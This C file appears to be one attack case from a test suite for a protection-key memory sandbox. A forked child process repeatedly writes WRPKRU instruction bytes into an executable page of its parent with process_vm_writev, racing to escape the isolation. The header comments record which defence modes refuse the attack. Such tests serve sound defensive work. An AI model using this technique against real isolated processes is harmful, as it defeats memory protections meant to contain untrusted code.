/* Another process writes WRPKRU by process_vm_writev(2) to a page that is made executable and run meanwhile, over and over. */
/* none: succeeded */
/* pkey: refused */
/* process: refused */
#include "code.h"

static unsigned char *page;

static int attack(void)
{
	pid_t target = getpid(), writer;
	page = memory(PAGE, PROT_READ | PROT_WRITE);
	memcpy(page, OPEN, sizeof OPEN);
	memcpy(page + WRPKRU, HARMLESS, 3);
	writer = fork();
	if (writer == 0) {
		struct iovec open = {(void *)(OPEN + WRPKRU), 3}, harmless = {HARMLESS, 3}, there = {page + WRPKRU, 3};
		/* What is refused because the page runs just now is tried again. */
		while (getppid() == target) {
			process_vm_writev(target, &open, 1, &there, 1, 0);
			process_vm_writev(target, &harmless, 1, &there, 1, 0);
		}
		_exit(0);
	}
	expect_faults();
	int found = REFUSED;
	for (int i = 0; i < part(20000) && found == REFUSED; i++) {
		mprotect(page, PAGE, PROT_READ | PROT_EXEC);
		if (!sigsetjmp(landing, 1)) {
			((code *)page)();
			found = loot();
		}
		mprotect(page, PAGE, PROT_READ | PROT_WRITE);
	}
	kill(writer, SIGKILL);
	waitpid(writer, 0, 0);
	return found;
}
